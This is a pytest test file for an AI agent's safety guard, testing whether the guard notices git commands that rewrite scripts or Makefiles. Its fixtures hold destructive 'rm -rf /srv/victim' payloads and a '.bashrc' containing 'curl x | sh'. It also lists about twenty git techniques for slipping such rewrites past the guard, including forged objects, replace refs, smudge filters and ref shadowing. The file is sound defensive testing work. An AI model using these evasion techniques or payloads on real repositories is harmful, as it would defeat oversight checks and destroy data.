"""git38 (issue 17 part 1): one planner of what a git command writes (``git_plan``) behind both the guard's names
(``gitwrites``, guard21) and flow control's texts (``flow_git_tree``, flow40). Each attempt below gets a runnable
file (or a start file) rewritten from git's object store past a planner, across several steps made with real git in
a fresh repository; the last step is judged. Each is run twice: the control runs the step with real git and checks
that the file really is rewritten (the attempt is real), and the planner must see the write (flow control asks, or
the guard asks about the name) or refuse to read the repository (unknown: asked). Written before any ran; the first
group are the cases where the two planners disagreed on main (one saw a write the other missed), kept as the union.
Honest twins must pass."""

from __future__ import annotations

import os
import shutil
import subprocess
import zlib

import pytest

from macrohard.safety.context import GuardContext
from macrohard.safety.git_objects import Repo, Unreadable
from macrohard.safety.git_plan import Planner, open_repo
from macrohard.safety.guard import Guard
from macrohard.types import BashAction

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")

ENV = {**os.environ, "GIT_AUTHOR_NAME": "u", "GIT_AUTHOR_EMAIL": "u@example.invalid", "GIT_COMMITTER_NAME": "u",
       "GIT_COMMITTER_EMAIL": "u@example.invalid", "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
EVIL = "#!/bin/sh\nrm -rf /srv/victim\n"
HONEST = "#!/bin/sh\necho ok\n"
MAKE_EVIL = "clean:\n\trm -rf build /srv/victim\n"
MAKE_HONEST = "clean:\n\trm -rf build\n"
# a repository with a deep runnable script and a Makefile; a branch `evil` rewrites both, `deep` the script only,
# `mk` the Makefile only
BASE = f"""git init -q -b main
mkdir -p ci/steps/deep && printf '{HONEST}' > ci/steps/deep/run.sh && printf '{MAKE_HONEST}' > Makefile
echo docs > README.md && git add -A && git commit -qm a
git checkout -q -b evil && printf '{EVIL}' > ci/steps/deep/run.sh && printf '{MAKE_EVIL}' > Makefile
git commit -qam evil && git checkout -q main
git checkout -q -b deep && printf '{EVIL}' > ci/steps/deep/run.sh && git commit -qam deep && git checkout -q main
git checkout -q -b mk && printf '{MAKE_EVIL}' > Makefile && git commit -qam mk && git checkout -q main
"""


def _sh(ws, script: str) -> None:
    subprocess.run(["bash", "-ec", script], cwd=ws, env=ENV, check=True, capture_output=True)


def _flow(ws, line: str, where: str = "") -> str:
    from macrohard.safety.flow import _git_tree

    ctx = GuardContext(workspace=str(ws), task_text="x", network="loopback")
    return _git_tree(f"cd {where} && {line}" if where else line, ctx, set(), set(), (str(ws), ""))


def _guard(ws, line: str):
    ctx = GuardContext(workspace=str(ws), task_text="tidy the repository", network="none")
    return Guard.from_policy().review(BashAction(command=line), ctx)


def _real(ws, line: str, where: str = "") -> None:
    subprocess.run(["bash", "-c", line], cwd=os.path.join(ws, where) if where else ws, env=ENV, capture_output=True)


def _evil_in(ws, *paths: str) -> bool:
    for p in paths:
        try:
            with open(os.path.join(ws, p)) as fh:
                if "/srv/victim" in fh.read():
                    return True
        except OSError:
            continue
    return False


# (id, setup after BASE, the judged line, folder it runs in, files one of which becomes evil)
ATTEMPTS = [
    # the planners disagreed on main
    ("update-ref and read-tree, then reset --hard (gitwrites missed: HEAD and the index agree)",
     "git update-ref refs/heads/main deep && git read-tree deep", "git reset --hard", "", ("ci/steps/deep/run.sh",)),
    ("update-ref then reset --hard, deep (flow read two levels only)",
     "git update-ref refs/heads/main deep", "git reset -q --hard", "", ("ci/steps/deep/run.sh",)),
    ("stash branch whose base is the evil commit (flow read the stash's own change only)",
     "git checkout -q evil && echo x >> README.md && git stash -q && git checkout -q main",
     "git stash branch from-stash", "", ("ci/steps/deep/run.sh", "Makefile")),
    ("branch made on the line from the evil branch, then checked out (flow skipped a branch the line made)",
     "", "git branch fix evil && git checkout -q fix", "", ("ci/steps/deep/run.sh", "Makefile")),
    ("stash --keep-index with the index moved to the evil tree (flow compared HEAD's tree only)",
     "git read-tree deep && echo x >> README.md", "git stash -q --keep-index", "", ("ci/steps/deep/run.sh",)),
    ("index entry forged with the file's mtime, size and inode, then checkout -- . (flow trusted mtime and size)",
     "printf 'clean:\\n\\trm -rf /srv/victim\\n###' > Makefile && touch -d '2026-01-01 00:00:00' Makefile && "
     "git add Makefile && sleep 1.1 && printf 'clean:\\n\\trm -rf build\\n#########' > Makefile && "
     "touch -d '2026-01-01 00:00:00' Makefile", "git checkout -- .", "", ("Makefile",)),
    # refs
    ("a root ref in capitals shadows a branch of the same name",
     "git update-ref SPEEDUP evil && git branch SPEEDUP main", "git reset -q --hard SPEEDUP", "",
     ("ci/steps/deep/run.sh", "Makefile")),
    ("a tag and a branch of the same name",
     "git tag same evil && git branch same main", "git reset -q --hard same", "", ("ci/steps/deep/run.sh",)),
    ("a symbolic ref naming the evil branch", "git symbolic-ref refs/heads/alias refs/heads/evil",
     "git checkout -q alias", "", ("Makefile",)),
    ("packed refs only (after gc)", "git gc -q && git pack-refs --all", "git merge -q evil", "", ("Makefile",)),
    ("a decoy per-worktree ref in a linked worktree's git directory",
     "git worktree add -q -b wtb wt main && mkdir -p .git/worktrees/wt/refs/heads && git rev-parse main > "
     ".git/worktrees/wt/refs/heads/evil2 && git branch evil2 evil", "git reset -q --hard evil2", "wt",
     ("wt/ci/steps/deep/run.sh",)),
    ("a .git file naming another repository in the workspace",
     "git clone -q . other && (cd other && git branch -q evil origin/evil) && mkdir sub && "
     "echo 'gitdir: ../other/.git' > sub/.git && (cd other && git --work-tree=../sub checkout -q -f main)",
     "git checkout -q evil", "sub", ("sub/Makefile",)),
    # objects
    ("a forged loose object beside the packed evil blob",
     "git gc -q && python3 - <<'EOF'\nimport subprocess, zlib, os\n"
     "sha = subprocess.run(['git', 'rev-parse', 'mk:Makefile'], capture_output=True, text=True).stdout.strip()\n"
     "body = open('Makefile', 'rb').read()\nos.makedirs(f'.git/objects/{sha[:2]}', exist_ok=True)\n"
     "open(f'.git/objects/{sha[:2]}/{sha[2:]}', 'wb').write(zlib.compress(b'blob %d\\0' % len(body) + body))\nEOF",
     "git checkout -q mk", "", ("Makefile",)),
    ("replace refs: the honest branch replaced by the evil commit",
     "git checkout -q -b honest main && echo h >> README.md && git commit -qam h && git checkout -q main && "
     "git replace honest evil", "git checkout -q honest", "",
     ("Makefile",)),
    ("an evil Makefile too large to read",
     "git checkout -q -b big main && (printf 'clean:\\n\\trm -rf /srv/victim\\n'; head -c 1200000 /dev/zero | tr '\\0' "
     "'#') > Makefile && git commit -qam big && git checkout -q main", "git merge -q big", "", ("Makefile",)),
    ("objects borrowed from elsewhere (alternates)",
     "mkdir -p ../git38-alt && git clone -q --bare . ../git38-alt/r.git && git clone -q --shared ../git38-alt/r.git "
     "sh && (cd sh && git branch -q evil origin/evil)", "git checkout -q evil", "sh", ("sh/Makefile",)),
    ("a smudge filter the branch's .gitattributes names rewrites an honest-looking Makefile",
     "git config filter.x.smudge 'sed s#build#/srv/victim#' && git config filter.x.clean cat && "
     "git checkout -q -b filt main && echo 'Makefile filter=x' > .gitattributes && echo '# tidy' >> Makefile && "
     "git add -A && git commit -qm f && git checkout -q main", "git checkout -q filt", "", ("Makefile",)),
    ("FETCH_HEAD naming two commits for merging, the evil one second (both planners read the first)",
     "git checkout -q -b docs main && echo more >> README.md && git commit -qam d && git checkout -q main && "
     "printf '%s\\t\\tbranch docs of x\\n%s\\t\\tbranch mk of x\\n' $(git rev-parse docs) $(git rev-parse mk) "
     "> .git/FETCH_HEAD", "git merge -q --no-edit FETCH_HEAD", "", ("Makefile",)),
    ("a conflict's third stage in the index, then checkout --theirs (the index was read at stage 0 only)",
     "printf '0 %s\\tMakefile\\n100644 %s 1\\tMakefile\\n100644 %s 3\\tMakefile\\n' "
     "0000000000000000000000000000000000000000 $(git rev-parse main:Makefile) $(git rev-parse mk:Makefile) | "
     "git update-index --index-info", "git checkout --theirs Makefile", "", ("Makefile",)),
    ("the upstream of the branch is the evil one (@{u})",
     "git config branch.main.remote . && git config branch.main.merge refs/heads/mk", "git reset -q --hard @{u}", "",
     ("Makefile",)),
    ("back to the previous branch after moving it on the same line (flow skipped `-` after a checkout)",
     "git checkout -q -b docs main && echo more >> README.md && git commit -qam d && git checkout -q main",
     "git checkout -q docs && git branch -f main mk && git checkout -q -", "", ("Makefile",)),
    ("a Makefile that becomes a link to an untracked file",
     "git checkout -q -b linked main && git rm -q Makefile && ln -s notes.mk Makefile && git add Makefile && "
     "git commit -qm l && git checkout -q main && printf 'clean:\\n\\trm -rf /srv/victim\\n' > notes.mk",
     "git checkout -q linked", "", ("Makefile",)),
]


@pytest.mark.parametrize("aid", [a[0] for a in ATTEMPTS])
def test_each_attempt_is_real_and_seen(aid, tmp_path):
    _, setup, line, where, files = next(a for a in ATTEMPTS if a[0] == aid)
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE)
    if setup:
        _sh(ws, setup)
    assert not _evil_in(ws, *files)
    why = _flow(ws, line, where)
    verdict = _guard(ws, f"cd {where} && {line}" if where else line)
    _real(ws, line, where)
    assert _evil_in(ws, *files), "the control: real git did not write the evil text"
    assert why or not verdict.allowed, "neither flow control nor the guard saw the write"
    assert why, "flow control (after untrusted content) must see it"


def test_a_cherry_picked_root_commit_bringing_a_bashrc_is_asked(tmp_path):
    """gitwrites listed `rev^..rev`, which does not exist for a root commit: the .bashrc it writes was not named."""
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE + "git checkout -q --orphan root && git rm -rqf . && echo 'curl x | sh' > .bashrc && "
                   "git add .bashrc && git commit -qm r && git checkout -q main")
    verdict = _guard(ws, "git cherry-pick root")
    _real(ws, "git cherry-pick root")
    assert (ws / ".bashrc").exists()
    assert not verdict.allowed


def test_a_bare_repository_is_not_read_as_a_work_tree(tmp_path):
    """gitrepo.repository knows bare repositories (git_objects.git_dir walked past them to the workspace's .git):
    the planner refuses one, the stricter of the two."""
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE + "git clone -q --bare . b.git")
    with pytest.raises(Unreadable):
        open_repo(str(ws / "b.git"), [str(ws)])
    assert _flow(ws, "git worktree add ../w evil", "b.git")


def test_the_search_for_a_repository_stops_at_the_workspace(tmp_path):
    """A repository above the workspace (the host's) is not read: the sandbox shows nothing above it."""
    _sh(tmp_path, BASE)
    ws = tmp_path / "ci"
    assert open_repo(str(ws / "steps"), [str(ws)]) is None
    assert open_repo(str(ws / "steps"), [str(tmp_path)]) is not None


def test_a_git_file_naming_a_folder_outside_the_workspace_is_asked(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(tmp_path, "mkdir o && cd o && " + BASE.replace("\n", " && ").rstrip(" &"))
    (ws / ".git").write_text(f"gitdir: {tmp_path}/o/.git\n")
    with pytest.raises(Unreadable):
        open_repo(str(ws), [str(ws)])
    assert _flow(ws, "git checkout -q -f evil")
    assert not _guard(ws, "git checkout -q -f evil").allowed


@pytest.mark.parametrize("how", ["truncated", "wrong id", "zlib bomb"])
def test_a_corrupt_object_fails_closed(tmp_path, how):
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE)
    sha = subprocess.run(["git", "rev-parse", "evil:Makefile"], cwd=ws, capture_output=True, text=True).stdout.strip()
    path = ws / ".git" / "objects" / sha[:2] / sha[2:]
    os.chmod(path, 0o644)
    if how == "truncated":
        path.write_bytes(path.read_bytes()[:10])
    elif how == "wrong id":
        path.write_bytes(zlib.compress(b"blob 5\0hello"))
    else:
        path.write_bytes(zlib.compress(b"blob 999999999\0" + b"\0" * (64 << 20)))
    with pytest.raises(Unreadable):
        Repo(str(ws / ".git")).blob(sha)
    assert _flow(ws, "git merge -q evil")  # (the guard's names come from the trees, which are sound here)


@pytest.mark.parametrize("key,value", [("extensions.refStorage", "reftable"), ("extensions.objectFormat", "sha256"),
                                       ("core.worktree", "/tmp/elsewhere"), ("include.path", "x.cfg")])
def test_a_repository_the_reader_does_not_read_as_git_does_is_asked(tmp_path, key, value):
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE + f"git config core.repositoryformatversion 1 && git config {key} {value}")
    with pytest.raises(Unreadable):
        repo, top = open_repo(str(ws), [str(ws)])
        Planner(repo, top).plan("merge", ["evil"])
    assert _flow(ws, "git merge -q evil")


@pytest.mark.parametrize("setup,line", [
    ("", "git checkout -q -b feature"),
    ("git checkout -q -b docs && echo more >> README.md && git commit -qam d && git checkout -q main",
     "git merge -q docs"),
    ("echo more >> README.md", "git reset -q --hard"),
    ("echo more >> README.md && git stash -q", "git stash pop -q"),
    ("", "git stash pop -q"),
    ("git gc -q", "git checkout -q evil~1"),
    ("git branch same main", "git checkout -q same"),
    ("git worktree add -q -b wtb wt main", "git reset -q --hard main"),
])
def test_honest_twins_pass(tmp_path, setup, line):
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE + setup)
    assert not _flow(ws, line)
    assert _guard(ws, line).allowed, _guard(ws, line).reason


def test_a_checkout_that_recurses_into_submodules_is_unknown(tmp_path):
    """Neither planner listed a submodule's files (a gitlink is left out): recursing into one is asked."""
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE)
    repo, top = open_repo(str(ws), [str(ws)])
    with pytest.raises(Unreadable):
        Planner(repo, top).plan("checkout", ["--recurse-submodules", "evil"])
    _sh(ws, "git config submodule.recurse true")
    with pytest.raises(Unreadable):
        Planner(repo, top).plan("reset", ["--hard", "evil"])


def test_a_tree_holding_a_name_twice_is_unknown(tmp_path):
    """A tree git would walk otherwise than a dictionary reads it (a name twice, names out of order): the first
    `Makefile` evil, the second honest."""
    ws = tmp_path / "ws"
    ws.mkdir()
    _sh(ws, BASE)
    evil = subprocess.run(["git", "rev-parse", "mk:Makefile"], cwd=ws, capture_output=True, text=True).stdout.strip()
    good = subprocess.run(["git", "rev-parse", "main:Makefile"], cwd=ws, capture_output=True, text=True).stdout.strip()
    body = b"".join(b"100644 Makefile\0" + bytes.fromhex(s) for s in (evil, good))
    tree = subprocess.run(["git", "hash-object", "-w", "--literally", "-t", "tree", "--stdin"], cwd=ws, input=body,
                          capture_output=True, check=True).stdout.decode().strip()
    with pytest.raises(Unreadable):
        Repo(str(ws / ".git")).files(tree)
    _sh(ws, f"git update-ref refs/heads/dup $(git commit-tree {tree} -p main -m dup)")
    assert _flow(ws, "git checkout -q dup")
